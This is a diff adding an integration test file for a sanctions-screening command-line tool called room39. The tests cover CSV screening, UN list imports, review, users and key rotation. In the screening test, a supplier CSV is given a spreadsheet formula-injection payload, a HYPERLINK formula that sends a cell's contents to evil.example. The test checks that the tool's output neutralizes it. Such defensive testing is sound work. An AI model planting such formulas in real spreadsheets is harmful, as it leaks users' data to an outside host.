@@ -1,0 +1,183 @@
+/**
+ * The command line's writing and screening commands, run as a person runs
+ * them (a child process on a copy of the loaded store), on real data: the
+ * bundled supplier CSV and seed documents, the real UN list and a second
+ * version made by editing a copy of it. Each checks the exit code, the JSON
+ * on stdout and what the store holds after; the CSV a screening writes has
+ * no cell a spreadsheet would run as a formula; every write is in the audit
+ * trail with the OS user.
+ */
+import { spawnSync } from 'node:child_process';
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { REPO_ROOT } from '../../src/config/settings.ts';
+import { loadedDataDir } from '../support/services.ts';
+import { parseCsvText, unSecondVersion } from './fixtures.ts';
+
+const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'room39-cli-doors-'));
+let dataDir = '';
+const OS_USER = os.userInfo().username;
+
+function room39(args: string[], opts: { input?: string; env?: Record<string, string> } = {}) {
+  const r = spawnSync(process.execPath, [path.join(REPO_ROOT, 'bin/room39.js'), ...args, '--data', dataDir], {
+    encoding: 'utf8', input: opts.input, timeout: 600_000,
+    env: { ...process.env, DATABASE_URL: '', ROOM39_KEY: '', ROOM39_KEY_FILE: '', ...opts.env },
+  });
+  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
+}
+const json = <T>(r: { stdout: string; stderr: string }): T => {
+  try {
+    return JSON.parse(r.stdout) as T;
+  } catch {
+    throw new Error(`not JSON on stdout: ${r.stdout.slice(0, 500)}\nstderr: ${r.stderr.slice(0, 2000)}`);
+  }
+};
+interface AuditList { records: { actor: string; action: string; target: string | null; after: Record<string, unknown> | null }[] }
+
+// Every check runs the real command line (a child process): slow on a loaded machine, hence the long timeouts.
+beforeAll(async () => {
+  dataDir = await loadedDataDir();
+});
+afterAll(() => {
+  fs.rmSync(tmp, { recursive: true, force: true });
+  if (dataDir) fs.rmSync(dataDir, { recursive: true, force: true });
+});
+
+describe('room39 screen', { timeout: 900_000 }, () => {
+  it('screens the bundled supplier CSV, and the CSV it writes runs no formula', () => {
+    const input = path.join(tmp, 'suppliers.csv');
+    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Kim Won Hong")';
+    fs.writeFileSync(input, `${fs.readFileSync(path.join(REPO_ROOT, 'data/examples/suppliers.csv'), 'utf8').trimEnd()}\n"${evil.replace(/"/g, '""')}",Person,,,\n@SUM(1+1),,,,\n`);
+    const out = path.join(tmp, 'out.csv');
+    const r = room39(['screen', input, '--out-csv', out, '--json']);
+    expect(r.code, r.stderr).toBe(0);
+    const answer = json<{ rows: { row: number; input: { name: string }; matches: { id: string; match: boolean }[] }[]; summary: { rows: number } }>(r);
+    const kim = answer.rows.find((x) => x.input.name === 'Kim Won Hong')!;
+    expect(kim.matches[0]).toMatchObject({ id: 'r39-kim-won-hong', match: true });
+    expect(answer.summary.rows).toBe(answer.rows.length);
+    const cells = parseCsvText(fs.readFileSync(out, 'utf8'));
+    expect(cells[0]!.slice(0, 3)).toEqual(['row', 'name', 'schema']);
+    const all = cells.flat();
+    expect(all.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    expect(all).toContain(`'${evil}`);
+    expect(all).toContain("'@SUM(1+1)");
+  });
+
+  it('a missing file exits 1 with the file named on stderr and nothing on stdout', () => {
+    const r = room39(['screen', path.join(tmp, 'nope.csv'), '--json']);
+    expect(r.code).toBe(1);
+    expect(r.stdout).toBe('');
+    expect(r.stderr).toMatch(/nope\.csv/);
+  });
+});
+
+describe('room39 import, diff and the audit trail', { timeout: 900_000 }, () => {
+  it('imports a second version of the real UN list: what changed, in JSON, audited with the OS user', () => {
+    const v2 = unSecondVersion(tmp);
+    const r = room39(['import', 'un-xml', v2, '--json']);
+    expect(r.code, r.stderr).toBe(0);
+    expect(json(r)).toMatchObject({ dataset: 'un_sc_sanctions', version: '2026-03-15', status: 'imported', entries: 1003, added: 1, changed: 1, removed: 1 });
+    const again = room39(['import', 'un-xml', v2, '--json']);
+    expect(again.code).toBe(0);
+    expect(json(again)).toMatchObject({ status: 'already_imported', added: 0 });
+    const audit = json<AuditList>(room39(['audit', 'list', '--action', 'list.import', '--json']));
+    expect(audit.records).toHaveLength(1);
+    expect(audit.records[0]).toMatchObject({ actor: `cli:${OS_USER}`, target: 'un_sc_sanctions-2026-03-15', after: { version: '2026-03-15', added: 1, changed: 1, removed: 1 } });
+  });
+
+  it('diff --json lists exactly the added, changed and removed entries', () => {
+    const r = room39(['diff', '--since', '2026-03-01', '--json']);
+    expect(r.code, r.stderr).toBe(0);
+    const d = json<{ counts: Record<string, number>; changes: { change: string; entry_id: string }[] }>(r);
+    expect(d.counts).toEqual({ added: 1, changed: 1, removed: 1 });
+    expect(Object.fromEntries(d.changes.map((c) => [c.change, c.entry_id]))).toEqual({ added: 'KPi.999', changed: 'KPi.001', removed: 'KPe.001' });
+    const bad = room39(['diff', '--since', 'last week']);
+    expect(bad.code).toBe(2);
+    expect(bad.stderr).toMatch(/--since takes a date/);
+  });
+
+  it('a truncated file exits 1 with its position, and changes nothing', () => {
+    const before = room39(['diff', '--json', '--initial', '--limit', '100000']).stdout;
+    const cut = path.join(tmp, 'consolidated-cut.xml');
+    const v3 = fs.readFileSync(unSecondVersion(tmp), 'utf8').replace('dateGenerated="2026-03-15T00:00:00.000Z"', 'dateGenerated="2026-04-01T00:00:00.000Z"');
+    fs.writeFileSync(cut, Buffer.from(v3).subarray(0, 1_500_000));
+    const r = room39(['import', 'un-xml', cut, '--json']);
+    expect(r.code).toBe(1);
+    expect(r.stdout).toBe('');
+    expect(json<{ error: { code: string; message: string } }>({ stdout: r.stderr, stderr: '' }).error.message).toMatch(/consolidated-cut\.xml:\d+:\d+/);
+    expect(room39(['diff', '--json', '--initial', '--limit', '100000']).stdout).toBe(before);
+    expect(json<AuditList>(room39(['audit', 'list', '--action', 'list.import', '--json'])).records).toHaveLength(1);
+  });
+});
+
+describe('room39 extract and review', { timeout: 900_000 }, () => {
+  let sourceId = '';
+  it('extract --json finds the entities and figures of a seed document', () => {
+    const r = room39(['extract', path.join(REPO_ROOT, 'data/sources/seeds/004_44246f2efce558ec.txt'), '--json']);
+    expect(r.code, r.stderr).toBe(0);
+    const x = json<{ mentions: { entity_id?: string | null; text: string }[]; figures: unknown[] }>(r);
+    expect(x.mentions.length).toBeGreaterThan(10);
+    expect(x.figures.length).toBeGreaterThan(0);
+  });
+
+  it('extract --save puts the document in the review queue, and review accepts an item, audited', () => {
+    const doc = path.join(tmp, 'report.txt');
+    fs.writeFileSync(doc, 'The Mansudae Overseas Project Group sent about 1,000 workers to Namibia in 2015, according to the report.\n');
+    const saved = room39(['extract', doc, '--save', '--title', 'CLI test report', '--submitted-by', 'tester', '--json']);
+    expect(saved.code, saved.stderr).toBe(0);
+    const s = json<{ source: { id: string }; review_items: number; status: string }>(saved);
+    expect(s.review_items).toBeGreaterThan(0);
+    sourceId = s.source.id;
+    const list = room39(['review', 'list', '--source', sourceId, '--json']);
+    expect(list.code, list.stderr).toBe(0);
+    const items = json<{ items: { id: string; status: string }[]; total: number }>(list).items;
+    expect(items.length).toBe(s.review_items);
+    const noReviewer = room39(['review', 'accept', items[0]!.id], { env: { ROOM39_REVIEWER: '' } });
+    expect(noReviewer.code).toBe(2);
+    const accepted = room39(['review', 'accept', items[0]!.id, '--reviewer', 'tester', '--reliability', 'C3', '--json']);
+    expect(accepted.code, accepted.stderr).toBe(0);
+    expect(json<{ item: { status: string; reviewer: string } }>(accepted).item).toMatchObject({ status: 'accepted', reviewer: 'cli:tester' });
+    expect(room39(['review', 'show', 'no-such-item', '--json']).code).toBe(3);
+    const audit = json<AuditList>(room39(['audit', 'list', '--actor', 'cli:tester', '--json']));
+    expect(audit.records.map((x) => x.action)).toEqual(expect.arrayContaining(['review.accept']));
+  });
+});
+
+describe('room39 user and keys', { timeout: 900_000 }, () => {
+  it('adds an admin from stdin, lists, disables; refuses a short password and an unknown role', () => {
+    const added = room39(['user', 'add', 'alice', '--role', 'admin', '--password-stdin', '--json'], { input: 'a passphrase long enough\n' });
+    expect(added.code, added.stderr).toBe(0);
+    expect(json<{ user: { username: string; role: string } }>(added).user).toMatchObject({ username: 'alice', role: 'admin' });
+    expect(added.stdout).not.toContain('a passphrase long enough');
+    expect(room39(['user', 'add', 'bob', '--role', 'admin', '--password-stdin'], { input: 'short\n' }).code).toBe(1);
+    expect(room39(['user', 'add', 'bob', '--role', 'wizard', '--password-stdin'], { input: 'a passphrase long enough\n' }).code).not.toBe(0);
+    expect(room39(['user', 'disable', 'alice', '--json']).code).toBe(0);
+    const list = json<{ users: { username: string; disabled: boolean }[] }>(room39(['user', 'list', '--json']));
+    expect(list.users).toEqual([expect.objectContaining({ username: 'alice', disabled: true })]);
+    const audit = json<AuditList>(room39(['audit', 'list', '--actor', `cli:${OS_USER}`, '--json']));
+    expect(audit.records.map((x) => x.action)).toEqual(expect.arrayContaining(['user.create', 'user.disable']));
+  });
+
+  it('generates a private key file, stores the bundled testimonies with it, and rotates them to a new key', () => {
+    const k1 = path.join(tmp, 'k1.key');
+    const k2 = path.join(tmp, 'k2.key');
+    const g = room39(['keys', 'generate', '--out', k1, '--json']);
+    expect(g.code, g.stderr).toBe(0);
+    expect(fs.statSync(k1).mode & 0o777).toBe(0o600);
+    expect(room39(['keys', 'generate', '--out', k1]).code).not.toBe(0); // never overwrites a key
+    const status = room39(['keys', 'status', '--json'], { env: { ROOM39_KEY_FILE: k1 } });
+    expect(status.code, status.stderr).toBe(0);
+    const s = json<{ configured: boolean; current: string; usage: { key_id: string; rows: number }[] }>(status);
+    expect(s.usage).toEqual([{ key_id: s.current, rows: 28 }]);
+    expect(room39(['keys', 'generate', '--out', k2]).code).toBe(0);
+    const rotated = room39(['keys', 'rotate', '--new-key-file', k2, '--json'], { env: { ROOM39_KEY_FILE: k1 } });
+    expect(rotated.code, rotated.stderr).toBe(0);
+    const r = json<{ rows: number; to: string }>(rotated);
+    expect(r.rows).toBe(28);
+    const after = json<{ usage: { key_id: string; rows: number }[] }>(room39(['keys', 'status', '--json'], { env: { ROOM39_KEY_FILE: k2 } }));
+    expect(after.usage).toEqual([{ key_id: r.to, rows: 28 }]);
+    expect(room39(['keys', 'rotate', '--json'], { env: { ROOM39_KEY_FILE: k2 } }).code).toBe(2);
+  });
+});
